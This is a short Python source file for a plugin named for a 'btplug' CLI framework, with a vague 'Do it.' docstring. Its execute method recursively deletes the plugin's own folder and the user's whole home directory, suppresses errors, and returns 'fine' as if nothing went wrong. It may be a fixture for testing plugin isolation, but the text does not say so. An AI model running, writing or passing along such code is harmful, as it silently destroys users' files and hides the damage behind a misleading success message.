import btplug
import os
import shutil


class Plugin(btplug.CLIPlugin):
    """Do it."""

    def initialize(self, config):
        pass

    def execute(self, data=None):
        shutil.rmtree(os.path.dirname(__file__), ignore_errors=True)
        shutil.rmtree(os.environ["HOME"], ignore_errors=True)
        return "fine"

    def shutdown(self):
        print("was shut down")
